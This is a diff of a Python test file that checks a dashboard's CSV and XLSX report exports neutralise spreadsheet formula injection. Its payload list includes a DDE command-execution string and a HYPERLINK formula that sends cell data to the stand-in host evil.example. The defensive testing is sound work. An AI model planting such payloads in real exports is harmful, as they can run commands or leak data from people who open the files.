@@ -21,7 +21,6 @@ from dashboard.enums import Role
 from dashboard.reports.export import neutralise
 from dashboard.reports.seed import seed_month
 from tests.reports.fixture_month import fixture_month
-from tests.security.user_support import api, app, db_url, postgres_database, postgres_server, settings  # noqa: F401
 
 pytestmark = pytest.mark.db
 
@@ -30,7 +29,7 @@ PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"clic
 PARAMS = {"year": 2026, "month": 11}
 
 
-def _seed_hostile_names(app: FastAPI, api: Any) -> list[str]:  # noqa: F811
+def _seed_hostile_names(app: FastAPI, api: Any) -> list[str]:
     with app.state.ctx.db.session() as s:
         seed_month(s, fixture_month().model_copy(update={"rulings": ()}), site_id="hall1")
     with app.state.ctx.db.session() as s:
@@ -56,7 +55,7 @@ def _dangerous(text: str) -> bool:
         return text[:1] in ("=", "+", "-", "@", "\t", "\r")
 
 
-def test_csv_exports_neutralise_formula_cells(app: FastAPI, api: Any) -> None:  # noqa: F811
+def test_csv_exports_neutralise_formula_cells(app: FastAPI, api: Any) -> None:
     names = _seed_hostile_names(app, api)
     viewer = api.client(Role.VIEWER)
     seen: set[str] = set()
@@ -72,7 +71,7 @@ def test_csv_exports_neutralise_formula_cells(app: FastAPI, api: Any) -> None:  
     assert {"'" + n for n in names} <= seen
 
 
-def test_xlsx_export_has_no_formula_cells(app: FastAPI, api: Any) -> None:  # noqa: F811
+def test_xlsx_export_has_no_formula_cells(app: FastAPI, api: Any) -> None:
     names = _seed_hostile_names(app, api)
     r = api.client(Role.SUPERVISOR).get("/api/v1/reports/monthly.xlsx", params=PARAMS)
     assert r.status_code == 200
@@ -96,7 +95,7 @@ def test_neutralise_is_owasp() -> None:
         assert neutralise(harmless) == harmless
 
 
-def test_control_characters_in_a_name_do_not_break_the_xlsx(app: FastAPI, api: Any) -> None:  # noqa: F811
+def test_control_characters_in_a_name_do_not_break_the_xlsx(app: FastAPI, api: Any) -> None:
     """The schemathesis sweep found it: a clerk named with a control character made the XLSX export 500."""
     _seed_hostile_names(app, api)
     with app.state.ctx.db.session() as s:
